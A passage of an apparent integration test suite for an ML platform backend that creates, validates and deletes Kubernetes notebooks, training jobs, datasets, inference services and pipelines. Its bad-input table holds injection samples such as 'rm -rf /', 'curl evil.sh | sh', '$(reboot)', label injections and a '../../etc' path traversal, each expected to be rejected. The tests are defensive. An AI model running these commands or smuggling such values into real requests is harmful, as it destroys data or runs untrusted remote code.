    expect(first.status).toBe(201);
    expect(first.body.object).toMatchObject({
      kind: 'CronWorkflow',
      name: 'shoe-brand-retrain',
    });
    expect(first.body.run).toMatchObject({
      kind: 'pipeline',
      inputs: [{ datasetRef: 'dataset:default/shoe-images' }],
      params: { objectKind: 'CronWorkflow', schedule: '0 2 * * *' },
    });
    const stored = await readBack(
      'argoproj.io/v1alpha1',
      'CronWorkflow',
      'shoe-brand-retrain',
    );
    expect(stored.spec.schedules ?? [stored.spec.schedule]).toContain(
      '0 2 * * *',
    );
    expect(stored.spec.workflowSpec.templates.map((t: any) => t.name)).toEqual(
      expect.arrayContaining([
        'main',
        'retrain',
        'evaluate',
        'register',
        'canary',
      ]),
    );
    const second = await request(server).post(`${API}/pipelines`).send(body);
    expect(second.body.run.id).toBe(first.body.run.id);
    const status = await request(server)
      .get(
        `${API}/clusters/local/namespaces/${NS}/pipelines/shoe-brand-retrain`,
      )
      .expect(200);
    expect(status.body).toMatchObject({
      phase: 'Scheduled',
      run: { id: first.body.run.id },
    });
  });

  // ---------------------------------------------------------------- bad inputs

  const nb = (patch: Record<string, unknown>) => ({
    cluster: 'local',
    namespace: BAD_NS,
    name: 'bad-nb',
    image: 'jupyter/base-notebook:latest',
    ...patch,
  });
  const job = (patch: Record<string, unknown>) => ({
    cluster: 'local',
    namespace: BAD_NS,
    name: 'bad-job',
    kind: 'Job',
    image: 'python:3.12',
    command: ['python', '-c', 'print(1)'],
    ...patch,
  });
  const cron = (patch: Record<string, unknown>) =>
    job({ kind: 'CronJob', schedule: '0 3 * * *', ...patch });
  const ds = (patch: Record<string, unknown>) => ({
    cluster: 'local',
    namespace: BAD_NS,
    name: 'bad-ds',
    source: { type: 'pvc', size: '1Gi' },
    catalogEntity: { owner: 'group:default/x' },
    ...patch,
  });
  const isvc = (patch: Record<string, unknown>) => ({
    cluster: 'local',
    namespace: BAD_NS,
    name: 'bad-isvc',
    model: 'model:default/shoe-brand',
    modelVersion: 1,
    catalogEntity: { owner: 'group:default/x' },
    ...patch,
  });
  const pipeline = (patch: Record<string, unknown>) => ({
    cluster: 'local',
    namespace: BAD_NS,
    name: 'bad-pipeline',
    steps: [
      {
        name: 'one',
        type: 'container',
        image: 'python:3.12',
        command: ['python', '-c', 'print(1)'],
      },
    ],
    ...patch,
  });

  type BadCase = [string, string, unknown, number, string | RegExp];
  const badInputs: BadCase[] = [
    // names
    [
      'notebook: upper-case name',
      '/notebooks',
      nb({ name: 'MyNotebook' }),
      400,
      'request/body/name must match pattern',
    ],
    [
      'notebook: underscore in name',
      '/notebooks',
      nb({ name: 'my_nb' }),
      400,
      'request/body/name',
    ],
    [
      'notebook: name longer than 63',
      '/notebooks',
      nb({ name: 'a'.repeat(64) }),
      400,
      'request/body/name must NOT have more than 63 characters',
    ],
    [
      'notebook: name starting with a dash',
      '/notebooks',
      nb({ name: '-nb' }),
      400,
      'request/body/name',
    ],
    [
      'notebook: invalid namespace',
      '/notebooks',
      nb({ namespace: 'Team_A' }),
      400,
      'request/body/namespace',
    ],
    [
      'job: dotted name (not a DNS label)',
      '/jobs',
      job({ name: 'train.v2' }),
      400,
      'request/body/name',
    ],
    [
      'dataset: upper-case name',
      '/datasets',
      ds({ name: 'Sales' }),
      400,
      'request/body/name',
    ],
    [
      'pipeline: name longer than 52',
      '/pipelines',
      pipeline({ name: 'p'.repeat(53) }),
      400,
      'request/body/name must NOT have more than 52 characters',
    ],
    // resources
    [
      'notebook: negative GPU count',
      '/notebooks',
      nb({ resources: { gpu: -1 } }),
      400,
      'request/body/resources/gpu must be >= 0',
    ],
    [
      'notebook: fractional GPU count',
      '/notebooks',
      nb({ resources: { gpu: 0.5 } }),
      400,
      'request/body/resources/gpu must be integer',
    ],
    [
      'job: GPU count as a string',
      '/jobs',
      job({ resources: { gpu: '1; rm -rf /' } }),
      400,
      'request/body/resources/gpu must be integer',
    ],
    [
      'notebook: invalid CPU quantity',
      '/notebooks',
      nb({ resources: { cpu: '2 cores' } }),
      400,
      'request/body/resources/cpu must match pattern',
    ],
    [
      'notebook: zero memory',
      '/notebooks',
      nb({ resources: { memory: '0Gi' } }),
      400,
      'request/body/resources/memory',
    ],
    [
      'job: negative memory',
      '/jobs',
      job({ resources: { memory: '-1Gi' } }),
      400,
      'request/body/resources/memory',
    ],
    // images, commands, env: injection attempts
    [
      'notebook: shell in the image',
      '/notebooks',
      nb({ image: 'python:3.12; rm -rf /' }),
      400,
      'request/body/image must match pattern',
    ],
    [
      'notebook: oversized image',
      '/notebooks',
      nb({ image: `registry/${'a'.repeat(600)}` }),
      400,
      'request/body/image must NOT have more than 512 characters',
    ],
    [
      'job: command as a shell string',
      '/jobs',
      job({ command: 'python train.py && curl evil.sh | sh' }),
      400,
      'request/body/command must be array',
    ],
    [
      'job: NUL byte in an argument',
      '/jobs',
      job({ args: ['--x', 'a\u0000b'] }),
      400,
      'request/body/args/1 must not contain NUL characters',
    ],
    [
      'job: empty program',
      '/jobs',
      job({ command: [' '] }),
      400,
      'request/body/command',
    ],
    [
      'job: oversized argument list',
      '/jobs',
      job({ args: Array.from({ length: 300 }, () => 'x') }),
      400,
      'request/body/args must NOT have more than 256 items',
    ],
    [
      'notebook: env name with a semicolon',
      '/notebooks',
      nb({ env: [{ name: 'FOO;BAR', value: 'x' }] }),
      400,
      'request/body/env/0/name must match pattern',
    ],
    [
      'notebook: duplicate env names',
      '/notebooks',
      nb({
        env: [
          { name: 'A', value: '1' },
          { name: 'A', value: '2' },
        ],
      }),
      400,
      'request/body/env/1/name duplicate environment variable "A"',
    ],
    // labels: injection attempts
    [
      'notebook: label selector in entityRef',
      '/notebooks',
      nb({ entityRef: 'component:default/x,app=evil' }),
      400,
      'request/body/entityRef must match pattern',
    ],
    [
      'job: label injection in the queue name',
      '/jobs',
      job({ queue: { name: 'q,kueue.x-k8s.io/priority-class=high' } }),
      400,
      'request/body/queue/name must match pattern',
    ],
    [
      'notebook: label injection in a nodeSelector value',
      '/notebooks',
      nb({ nodeSelector: { disk: 'ssd,evil=1' } }),
      400,
      'request/body/nodeSelector/disk must match pattern',
    ],
    [
      'notebook: newline in a nodeSelector key',
      '/notebooks',
      nb({ nodeSelector: { 'disk\nevil': 'ssd' } }),
      400,
      'request/body/nodeSelector',
    ],
    [
      'notebook: unknown field (privileged)',
      '/notebooks',
      nb({ privileged: true }),
      400,
      'request/body/privileged must NOT have additional properties',
    ],
    // cron
    [
      'cronjob: minute out of range',
      '/jobs',
      cron({ schedule: '61 * * * *' }),
      400,
      'request/body/schedule minute value 61 is out of range 0-59',
    ],
    [
      'cronjob: six fields',
      '/jobs',
      cron({ schedule: '0 0 3 * * *' }),
      400,
      'request/body/schedule must have 5 fields',
    ],
    [
      'cronjob: @every macro',
      '/jobs',
      cron({ schedule: '@every 5m' }),
      400,
      'request/body/schedule unknown macro',
    ],
    [
      'cronjob: TZ prefix',
      '/jobs',
      cron({ schedule: 'TZ=UTC 0 3 * * *' }),
      400,
      'request/body/schedule must not contain a time zone',
    ],
    [
      'cronjob: shell in the schedule',
      '/jobs',
      cron({ schedule: '0 3 * * *; reboot' }),
      400,
      'request/body/schedule',
    ],
    [
      'cronjob: without schedule',
      '/jobs',
      cron({ schedule: undefined }),
      400,
      'request/body/schedule Required',
    ],
    [
      'job: schedule on a Job',
      '/jobs',
      job({ schedule: '0 3 * * *' }),
      400,
      'request/body/schedule is not allowed for kind Job',
    ],
    [
      'cronjob: invalid time zone',
      '/jobs',
      cron({ timeZone: 'UTC+5' }),
      400,
      'request/body/timeZone must match pattern',
    ],
    // training shapes
    [
      'job: unknown kind',
      '/jobs',
      job({ kind: 'PaddleJob' }),
      400,
      'request/body/kind must be equal to one of the allowed values',
    ],
    [
      'job: parallelism 0',
      '/jobs',
      job({ parallelism: 0 }),
      400,
      'request/body/parallelism must be >= 1',
    ],
    [
      'job: parallelism above completions',
      '/jobs',
      job({ parallelism: 4, completions: 2 }),
      400,
      'request/body/parallelism must not exceed completions',
    ],
    [
      'tfjob: neither chief nor worker',
      '/jobs',
      job({ kind: 'TFJob', replicas: { PS: 1 } }),
      400,
      'request/body/replicas a TFJob needs a Chief or at least one Worker',
    ],
    [
      'pytorchjob: two masters',
      '/jobs',
      job({ kind: 'PyTorchJob', replicas: { Master: 2 } }),
      400,
      'request/body/replicas/Master must be <= 1',
    ],
    [
      'pytorchjob: gang larger than the job',
      '/jobs',
      job({
        kind: 'PyTorchJob',
        replicas: { Worker: 1 },
        gang: { minMember: 5 },
      }),
      400,
      "request/body/gang/minMember must not exceed the job's 2 pods",
    ],
    // references
    [
      'notebook: unknown cluster',
      '/notebooks',
      nb({ cluster: 'nope' }),
      422,
      'request/body/cluster: unknown cluster "nope" (configured: local, local-restricted)',
    ],
    [
      'job: invalid cluster name',
      '/jobs',
      job({ cluster: 'bad cluster!' }),
      400,
      'request/body/cluster must match pattern',
    ],
    [
      'notebook: missing dataset',
      '/notebooks',
      nb({ datasets: [{ datasetRef: 'dataset:default/nope' }] }),
      422,
      'request/body/datasets/0/datasetRef: dataset:default/nope not found in the catalog or the registry',
    ],
    [
      'notebook: unknown dataset version',
      '/notebooks',
      nb({
        namespace: BAD_NS,
        datasets: [
          { datasetRef: 'dataset:default/bad-shoe-images', version: 'v9' },
        ],
      }),
      422,
      'request/body/datasets/0/version: dataset:default/bad-shoe-images has no version v9',
    ],
    [
      'job: a table dataset cannot be mounted',
      '/jobs',
      job({ datasets: [{ datasetRef: 'dataset:default/clicks' }] }),
      422,
      'request/body/datasets/0/datasetRef: dataset:default/clicks is a table and cannot be mounted',
    ],
    [
      'job: dataset claim in another namespace',
      '/jobs',
      job({ datasets: [{ datasetRef: 'dataset:default/shoe-images' }] }),
      422,
      `request/body/datasets/0/datasetRef: the claim of dataset:default/shoe-images is in namespace "${NS}", not "${BAD_NS}"`,
    ],
    [
      'job: not a dataset ref',
      '/jobs',
      job({ datasets: [{ datasetRef: 'model:default/shoe-brand' }] }),
      400,
      'request/body/datasets/0/datasetRef must match pattern',
    ],
    [
      'job: unknown model',
      '/jobs',
      job({ modelRef: 'model:default/ghost' }),
      422,
      'request/body/modelRef: model:default/ghost not found in the catalog',
    ],
    // datasets
    [
      'dataset: OSS without cache',
      '/datasets',
      ds({
        source: {
          type: 'oss',
          bucket: 'data',
          endpoint: 'oss.example.com',
          credentials: { secretName: 's' },
        },
      }),
      400,
      'request/body/cache a oss source is mounted through Fluid',
    ],
    [
      'dataset: invalid bucket',
      '/datasets',
      ds({
        source: { type: 's3', bucket: 'Bad_Bucket' },
        cache: { runtime: 'alluxio', quota: '1Gi' },
      }),
      400,
      'request/body/source/bucket must match pattern',
    ],
    [
      'dataset: JuiceFS without metaUrl',
      '/datasets',
      ds({
        source: {
          type: 's3',
          bucket: 'data',
          credentials: { secretName: 's' },
        },
        cache: { runtime: 'juicefs', quota: '1Gi' },
      }),
      400,
      'request/body/cache/metaUrl JuiceFS needs its metadata engine URL',
    ],
    [
      'dataset: PVC without size or claim',
      '/datasets',
      ds({ source: { type: 'pvc' } }),
      400,
      'request/body/source set exactly one of existingClaim',
    ],
    [
      'dataset: path traversal',
      '/datasets',
      ds({
        source: { type: 's3', bucket: 'data', path: '../../etc' },
        cache: { runtime: 'alluxio', quota: '1Gi' },
      }),
      400,
      'request/body/source/path must not contain ".."',
    ],
    [
      'dataset: unknown entity without catalogEntity',
      '/datasets',
      ds({ catalogEntity: undefined }),
      422,
      'request/body/datasetRef: dataset:default/bad-ds not found in the catalog; give catalogEntity to register it',
    ],
    [
      'dataset: invalid owner',
      '/datasets',
      ds({ catalogEntity: { owner: 'not a ref!' } }),
      400,
      'request/body/catalogEntity/owner must match pattern',
    ],
    [
      'dataset: existing version of another uri',
      '/datasets',
      ds({
        name: 'bad-shoe-images',
        catalogEntity: undefined,
        datasetRef: 'dataset:default/shoe-images',
        version: 'v1',
      }),
      409,
      'request/body/version: dataset:default/shoe-images already has a version v1',
    ],
    // inference services
    [
      'isvc: unknown model version',
      '/inference-services',
      isvc({ modelVersion: 99 }),
      422,
      'request/body/modelVersion: model:default/shoe-brand has no version 99',
    ],
    [
      'isvc: unknown alias',
      '/inference-services',
      isvc({ modelVersion: 'nope' }),
      422,
      "request/body/modelVersion: model:default/shoe-brand has no alias 'nope'",
    ],
    [
      'isvc: archived version',
      '/inference-services',
      isvc({ modelVersion: 3 }),
      422,
      'request/body/modelVersion: version 3 of model:default/shoe-brand is archived',
    ],
    [
      'isvc: fractional version',
      '/inference-services',
      isvc({ modelVersion: 1.5 }),
      400,
      'request/body/modelVersion',
    ],
    [
      'isvc: negative version',
      '/inference-services',
      isvc({ modelVersion: -1 }),
      400,
      'request/body/modelVersion must be >= 1',
    ],
    [
      'isvc: alias with a label injection',
      '/inference-services',
      isvc({ modelVersion: 'prod,evil=1' }),
      400,
      'request/body/modelVersion must match pattern',
    ],
    [
      'isvc: canary share above 100',
      '/inference-services',
      isvc({ canaryTrafficPercent: 150 }),
      400,
      'request/body/canaryTrafficPercent must be <= 100',
    ],
    [
      'isvc: canary of a service that does not exist',
      '/inference-services',
      isvc({ canaryTrafficPercent: 10 }),
      422,
      'request/body/canaryTrafficPercent: InferenceService',
    ],
    [
      'isvc: minReplicas above maxReplicas',
      '/inference-services',
      isvc({ minReplicas: 5, maxReplicas: 2 }),
      400,
      'request/body/maxReplicas must be at least minReplicas',
    ],
    [
      'isvc: a dataset as the model',
      '/inference-services',
      isvc({ model: 'dataset:default/clicks' }),
      400,
      'request/body/model must match pattern',
    ],
    [
      'isvc: model not in the catalog',
      '/inference-services',
      isvc({ model: 'model:default/ghost' }),
      422,
      'request/body/model: model:default/ghost not found in the catalog',
    ],
    [
      'isvc: unknown service entity without catalogEntity',
      '/inference-services',
      isvc({ catalogEntity: undefined }),
      422,
      'request/body/serviceRef: inferenceservice:default/bad-isvc not found in the catalog',
    ],
    [
      'isvc: oversized message',
      '/inference-services',
      isvc({ message: 'x'.repeat(5000) }),
      400,
      'request/body/message must NOT have more than 4096 characters',
    ],
    // pipelines
    [
      'pipeline: placeholder outside the allow-list',
      '/pipelines',
      pipeline({
        steps: [
          {
            name: 'one',
            type: 'container',
            image: 'python:3.12',
            args: ['{{inputs.parameters.evil}}'],
          },
        ],
      }),
      400,
      'request/body/steps/0/args/0 placeholder "{{inputs.parameters.evil}}" is not allowed',
    ],
    [
      'pipeline: dependency on an unknown step',
      '/pipelines',
      pipeline({
        steps: [
          {
            name: 'one',
            type: 'container',
            image: 'python:3.12',
            dependsOn: ['zero'],
          },
        ],
      }),
      400,
      'request/body/steps/0/dependsOn unknown step "zero"',
    ],
    [
      'pipeline: a CronJob step',
      '/pipelines',
      pipeline({
        steps: [
          {
            name: 'one',
            type: 'training',
            training: {
              kind: 'CronJob',
              image: 'python:3.12',
              schedule: '@daily',
            },
          },
        ],
      }),
      400,
      'request/body/steps/0/training/kind a pipeline step cannot be a CronJob',
    ],
    [
      'pipeline: a training dataset without datasetRef',
      '/pipelines',
      pipeline({
        steps: [
          {
            name: 'one',
            type: 'training',
            training: {
              kind: 'Job',
              image: 'python:3.12',
              datasets: [{ name: 'x', claimName: 'x' }],
            },
          },
        ],
      }),
      400,
      'request/body/steps/0/training/datasets/0/datasetRef is required',
    ],
    [
      'pipeline: invalid when expression',
      '/pipelines',
      pipeline({
        steps: [
          {
            name: 'one',
            type: 'container',
            image: 'python:3.12',
            when: '$(reboot)',
          },
        ],
      }),
      400,
      'request/body/steps/0/when must compare placeholders',
    ],
    [
      'pipeline: bad cron',
      '/pipelines',
      pipeline({ schedule: '* * *' }),
      400,
      'request/body/schedule must have 5 fields',
    ],
  ];

  it(`refuses ${badInputs.length} bad inputs naming the field, leaving nothing in the cluster or the registry`, async () => {
    expect(badInputs.length).toBeGreaterThanOrEqual(40);
    const runsBefore = (await request(server).get(`${API}/runs?limit=1000`))
      .body.totalItems;
    const failures: string[] = [];
    for (const [label, path, body, status, field] of badInputs) {
      const res = await request(server)
        .post(`${API}${path}`)
        .send(body as object);
      const message: string = res.body?.error?.message ?? res.text;
      const fieldOk =
        typeof field === 'string'
          ? message.includes(field)
          : field.test(message);
      if (res.status !== status || !fieldOk) {
        failures.push(`${label}: ${res.status} ${message}`);
      }
      const left = await listCreated(gateway, BAD_NS);
      if (left.length) {
        failures.push(
          `${label}: left ${left
            .map(o => `${o.kind}/${o.metadata.name}`)
            .join(', ')}`,
        );
      }
    }
    expect(failures).toEqual([]);
    const runsAfter = (await request(server).get(`${API}/runs?limit=1000`)).body
      .totalItems;
    expect(runsAfter).toBe(runsBefore);
    const deployments = await request(server).get(
      `${API}/deployments?service=inferenceservice:default/bad-isvc`,
    );
    expect(deployments.body.totalItems).toBe(0);
    const portal = await request(server).get(`${API}/catalog-entities`);
    expect(portal.body.items.map((e: any) => e.metadata.name)).not.toContain(
      'bad-ds',
    );
  });

  it('refuses bodies that are too large, not JSON, or about objects that do not exist', async () => {
    const large = await request(server)
      .post(`${API}/notebooks`)
      .send(
        nb({
          env: [{ name: 'BIG', value: 'x'.repeat(32000) }],
          nodeSelector: {},
          pad: 'y'.repeat(1_100_000),
        }),
      );
    expect(large.status).toBe(413);
    const notJson = await request(server)
      .post(`${API}/jobs`)
      .set('Content-Type', 'application/json')
      .send('{"cluster": ');
    expect(notJson.status).toBe(400);
    const missing = await request(server)
      .post(`${API}/inference-services/local/${BAD_NS}/ghost/promote`)
      .send({});
    expect(missing.status).toBe(404);
    expect(missing.body.error.message).toContain(
      `InferenceService "ghost" not found in namespace "${BAD_NS}" of cluster "local"`,
    );
    const unknownCluster = await request(server)
      .post(`${API}/inference-services/nope/${BAD_NS}/ghost/rollback`)
      .send({});
    expect(unknownCluster.status).toBe(404);
    expect(unknownCluster.body.error.message).toContain(
      'request/params/cluster: unknown cluster "nope"',
    );
    const status = await request(server).get(
      `${API}/clusters/local/namespaces/${BAD_NS}/notebooks/ghost`,
    );
    expect(status.status).toBe(404);
    expect(await listCreated(gateway, BAD_NS)).toEqual([]);
  });
});

describe('deleting what the portal created', () => {
  let server: Awaited<ReturnType<typeof startBackend>>['server'];
  let stop: () => Promise<void>;

  beforeAll(async () => {
    const knex = await databases.init('SQLITE_3');
    const backend = await startBackend(knex);
    server = backend.server;
    stop = () => backend.stop();
    await request(server)
      .post(`${API}/models/default/shoe-brand/versions`)
      .send({ artifact: ARTIFACT(1), framework: 'pytorch' })
      .expect(201);
  });
  afterAll(() => stop());

  const objectPath = (kind: string, name: string, cluster = 'local') =>
    `${API}/clusters/${cluster}/namespaces/${NS}/${kind}/${name}`;

  /** True when the object is gone, or going (a PVC waits for its protection finalizer). */
  const isGone = async (apiVersion: string, kind: string, name: string) => {
    try {
      const object = await readBack(apiVersion, kind, name);
      return Boolean(object.metadata.deletionTimestamp);
    } catch (error) {
      if ((error as Error).name === 'NotFoundError') return true;
      throw error;
    }
  };
  const kindsOf = (refs: Array<{ kind: string }>) => refs.map(r => r.kind);

  it('deletes a notebook with its workspace PVC and stops its run; a dry run deletes nothing', async () => {
    const created = await request(server)
      .post(`${API}/notebooks`)
      .send({
        cluster: 'local',
        namespace: NS,
        name: 'del-nb',
        image: 'jupyter/base-notebook:latest',
        resources: { gpu: 1 },
        workspace: { size: '1Gi' },
      });
    expect(created.status).toBe(201);
    const runId = created.body.run.id;

    const dry = await request(server).delete(
      `${objectPath('notebooks', 'del-nb')}?dryRun=true`,
    );
    expect(dry.status).toBe(200);
    expect(dry.body).toMatchObject({
      dryRun: true,
      object: { kind: 'Notebook', name: 'del-nb', namespace: NS },
      run: { id: runId, phase: 'Pending' },
    });
    expect(kindsOf(dry.body.deleted)).toEqual([
      'Notebook',
      'PersistentVolumeClaim',
    ]);
    expect(dry.body.message).toMatch(/^Would delete Notebook/);
    expect(await isGone('kubeflow.org/v1', 'Notebook', 'del-nb')).toBe(false);
    expect(
      await isGone('v1', 'PersistentVolumeClaim', 'del-nb-workspace'),
    ).toBe(false);
    expect((await request(server).get(`${API}/runs/${runId}`)).body.phase).toBe(
      'Pending',
    );

    const res = await request(server).delete(objectPath('notebooks', 'del-nb'));
    expect(res.status).toBe(200);
    expect(res.body).toMatchObject({
      dryRun: false,
      object: {
        kind: 'Notebook',
        name: 'del-nb',
        uid: created.body.object.uid,
      },
      deleted: [
        { kind: 'Notebook', name: 'del-nb' },
        { kind: 'PersistentVolumeClaim', name: 'del-nb-workspace' },
      ],
      run: { id: runId, phase: 'Stopped' },
    });
    expect(res.body.run.message).toBe(
      `Notebook ${NS}/del-nb deleted from the portal by user:default/mock`,
    );
    expect(res.body.run.finishedAt).toBeDefined();
    expect(await isGone('kubeflow.org/v1', 'Notebook', 'del-nb')).toBe(true);
    expect(
      await isGone('v1', 'PersistentVolumeClaim', 'del-nb-workspace'),
    ).toBe(true);
    const run = await request(server).get(`${API}/runs/${runId}`).expect(200);
    expect(run.body.phase).toBe('Stopped');

    const again = await request(server).delete(
      objectPath('notebooks', 'del-nb'),
    );
    expect(again.status).toBe(404);
    expect(again.body.error.message).toContain(
      `Notebook "del-nb" not found in namespace "${NS}" of cluster "local"`,
    );
  });

  it('deletes training tasks of every kind (found from the run, or by kind), with their PodGroup', async () => {
    const base = {
      cluster: 'local',
      namespace: NS,
      image: 'ghcr.io/acme/shoe-trainer:1.4',
      command: ['python', '-m', 'train'],
    };
    const tasks = [
      { ...base, name: 'del-job', kind: 'Job', gang: { queue: 'default' } },
      { ...base, name: 'del-cron', kind: 'CronJob', schedule: '@daily' },
      { ...base, name: 'del-tf', kind: 'TFJob', replicas: { Worker: 1 } },
      { ...base, name: 'del-pt', kind: 'PyTorchJob', replicas: { Worker: 1 } },
      { ...base, name: 'del-xgb', kind: 'XGBoostJob', replicas: { Worker: 1 } },
      { ...base, name: 'del-mpi', kind: 'MPIJob', replicas: { Worker: 1 } },
    ];
    for (const task of tasks) {
      const created = await request(server).post(`${API}/jobs`).send(task);
      expect(created.status).toBe(201);
      const { apiVersion } = created.body.object;
      expect(kindsOf(created.body.objects)).toEqual(
        task.kind === 'Job' ? ['PodGroup', 'Job'] : [task.kind],
      );
      // the CronJob by ?kind=, the others found from the recorded run
      const res = await request(server).delete(
        `${objectPath('jobs', task.name)}${
          task.kind === 'CronJob' ? '?kind=CronJob' : ''
        }`,
      );
      expect(res.status).toBe(200);
      expect(res.body.object).toMatchObject({ kind: task.kind, apiVersion });
      expect(kindsOf(res.body.deleted)).toEqual(
        task.kind === 'Job' ? ['Job', 'PodGroup'] : [task.kind],
      );
      expect(res.body.run).toMatchObject({
        id: created.body.run.id,
        phase: 'Stopped',
      });
      expect(await isGone(apiVersion, task.kind, task.name)).toBe(true);
    }
    expect(
      await isGone('scheduling.volcano.sh/v1beta1', 'PodGroup', 'del-job'),
    ).toBe(true);
    const wrongKind = await request(server).delete(
      `${objectPath('jobs', 'del-job')}?kind=TFJob`,
    );
    expect(wrongKind.status).toBe(404);
    expect(wrongKind.body.error.message).toContain('TFJob "del-job" not found');
  });

  it('deletes a PVC dataset and a Fluid dataset with its runtime, removing their portal entities (versions stay)', async () => {
    const pvc = await request(server)
      .post(`${API}/datasets`)
      .send({
        cluster: 'local',
        namespace: NS,
        name: 'del-pvc-ds',
        source: { type: 'pvc', size: '1Gi' },
        catalogEntity: { owner: 'group:default/forecasting' },
      });
    expect(pvc.status).toBe(201);
    const fluid = await request(server)
      .post(`${API}/datasets`)
      .send({
        cluster: 'local',
        namespace: NS,
        name: 'del-fluid',
        source: {
          type: 'oss',
          bucket: 'shoe-data',
          path: 'images',
          endpoint: 'oss-cn-hangzhou.aliyuncs.com',
          credentials: { secretName: 'oss-creds' },
        },
        cache: { runtime: 'alluxio', quota: '1Gi', medium: 'MEM' },
        catalogEntity: { owner: 'group:default/cv-team' },
      });
    expect(fluid.status).toBe(201);
    const portalRefs = async () =>
      (
        await request(server).get(`${API}/catalog-entities`).expect(200)
      ).body.items.map((e: any) => `${e.kind}:${e.metadata.name}`);
    expect(await portalRefs()).toEqual(
      expect.arrayContaining(['Dataset:del-pvc-ds', 'Dataset:del-fluid']),
    );

    const dry = await request(server).delete(
      `${objectPath('datasets', 'del-fluid')}?dryRun=true`,
    );
    expect(dry.status).toBe(200);
    expect(dry.body).toMatchObject({
      dryRun: true,
      removedEntityRef: 'dataset:default/del-fluid',
    });
    expect(await portalRefs()).toContain('Dataset:del-fluid');
    expect(await isGone('data.fluid.io/v1alpha1', 'Dataset', 'del-fluid')).toBe(
      false,
    );

    const res = await request(server).delete(
      objectPath('datasets', 'del-fluid'),
    );
    expect(res.status).toBe(200);
    expect(kindsOf(res.body.deleted)).toEqual(['Dataset', 'AlluxioRuntime']);
    expect(res.body.removedEntityRef).toBe('dataset:default/del-fluid');
    expect(await isGone('data.fluid.io/v1alpha1', 'Dataset', 'del-fluid')).toBe(
      true,
    );
    expect(
      await isGone('data.fluid.io/v1alpha1', 'AlluxioRuntime', 'del-fluid'),
    ).toBe(true);

    const res2 = await request(server).delete(
      objectPath('datasets', 'del-pvc-ds'),
    );
    expect(res2.status).toBe(200);
    expect(kindsOf(res2.body.deleted)).toEqual(['PersistentVolumeClaim']);
    expect(res2.body.removedEntityRef).toBe('dataset:default/del-pvc-ds');
    expect(await isGone('v1', 'PersistentVolumeClaim', 'del-pvc-ds')).toBe(
      true,
    );
    const left = await portalRefs();
    expect(left).not.toContain('Dataset:del-fluid');
    expect(left).not.toContain('Dataset:del-pvc-ds');
    const versions = await request(server)
      .get(`${API}/datasets/default/del-pvc-ds/versions`)
      .expect(200);
    expect(versions.body.totalItems).toBe(1);
  });

  it('deletes an inference service and its portal entity, keeping the deployment history', async () => {
    const created = await request(server)
      .post(`${API}/inference-services`)
      .send({
        cluster: 'local',
        namespace: NS,
        name: 'del-isvc',
        model: 'model:default/shoe-brand',
        modelVersion: 1,
        catalogEntity: { owner: 'group:default/cv-team' },
      });
    expect(created.status).toBe(201);
    const res = await request(server).delete(
      objectPath('inference-services', 'del-isvc'),
    );
    expect(res.status).toBe(200);
    expect(res.body).toMatchObject({
      dryRun: false,
      deleted: [{ kind: 'InferenceService', name: 'del-isvc' }],
      removedEntityRef: 'inferenceservice:default/del-isvc',
      deployment: { serviceRef: 'inferenceservice:default/del-isvc' },
    });
    expect(
      await isGone('serving.kserve.io/v1beta1', 'InferenceService', 'del-isvc'),
    ).toBe(true);
    const portal = await request(server).get(`${API}/catalog-entities`);
    expect(
      portal.body.items.some((e: any) => e.metadata.name === 'del-isvc'),
    ).toBe(false);
    const deployment = await request(server)
      .get(`${API}/deployments/default/del-isvc`)
      .expect(200);
    expect(deployment.body.revision).toBe(1);
  });

  it('deletes a pipeline and stops its run', async () => {
    const created = await request(server)
      .post(`${API}/pipelines`)
      .send({
        cluster: 'local',
        namespace: NS,
        name: 'del-pipeline',
        steps: [
          {
            name: 'hello',
            type: 'container',
            image: 'python:3.12',
            command: ['python', '-c', 'print(1)'],
          },
        ],
      });
    expect(created.status).toBe(201);
    expect(created.body.object.kind).toBe('Workflow');
    const res = await request(server).delete(
      objectPath('pipelines', 'del-pipeline'),
    );
    expect(res.status).toBe(200);
    expect(kindsOf(res.body.deleted)).toEqual(['Workflow']);
    expect(res.body.run).toMatchObject({
      id: created.body.run.id,
      phase: 'Stopped',
    });
    expect(
      await isGone('argoproj.io/v1alpha1', 'Workflow', 'del-pipeline'),
    ).toBe(true);
  });

  it('refuses objects KubeAI does not manage (409, nothing deleted), unknown objects (404) and unknown clusters', async () => {
    await gateway.apply('local', [
      {
        apiVersion: 'kubeflow.org/v1',
        kind: 'Notebook',
        metadata: { name: 'hand-made', namespace: NS },
        spec: {
          template: {
            spec: { containers: [{ name: 'nb', image: 'jupyter/base' }] },
          },
        },
      },
      {
        apiVersion: 'v1',
        kind: 'PersistentVolumeClaim',
        metadata: { name: 'hand-made-claim', namespace: NS },
        spec: {
          accessModes: ['ReadWriteOnce'],
          resources: { requests: { storage: '1Gi' } },
        },
      },
    ]);
    for (const dryRun of ['', '?dryRun=true']) {
      const res = await request(server).delete(
        `${objectPath('notebooks', 'hand-made')}${dryRun}`,
      );
      expect(res.status).toBe(409);
      expect(res.body.error.message).toContain(
        `Notebook ${NS}/hand-made in cluster local is not managed by KubeAI`,
      );
    }
    const claim = await request(server).delete(
      objectPath('datasets', 'hand-made-claim'),
    );
    expect(claim.status).toBe(409);
    expect(claim.body.error.message).toContain(
      `PersistentVolumeClaim ${NS}/hand-made-claim in cluster local is not managed by KubeAI`,
    );
    expect(await isGone('kubeflow.org/v1', 'Notebook', 'hand-made')).toBe(
      false,
    );
    expect(await isGone('v1', 'PersistentVolumeClaim', 'hand-made-claim')).toBe(
      false,
    );

    for (const kind of [
      'notebooks',
      'jobs',
      'datasets',
      'inference-services',
      'pipelines',
    ]) {
      const missing = await request(server).delete(objectPath(kind, 'ghost'));
      expect(missing.status).toBe(404);
      expect(missing.body.error.message).toContain(
        `"ghost" not found in namespace "${NS}" of cluster "local"`,
      );
    }
    const unknown = await request(server).delete(
      objectPath('notebooks', 'hand-made', 'nope'),
    );
    expect(unknown.status).toBe(404);
    expect(unknown.body.error.message).toContain(
      'request/params/cluster: unknown cluster "nope"',
    );
    const badQuery = await request(server).delete(
      `${objectPath('notebooks', 'hand-made')}?dryRun=maybe`,
    );
    expect(badQuery.status).toBe(400);
    expect(badQuery.body.error.message).toContain('dryRun');
  });

  it('maps the refusal of the restricted cluster user to 403 and deletes nothing', async () => {
    const created = await request(server).post(`${API}/notebooks`).send({
      cluster: 'local',
      namespace: NS,
      name: 'del-guarded',
      image: 'jupyter/base-notebook:latest',
    });
    expect(created.status).toBe(201);
    const denied = await request(server).delete(
      objectPath('notebooks', 'del-guarded', 'local-restricted'),
    );
    expect(denied.status).toBe(403);
    expect(denied.body.error.message).toContain(
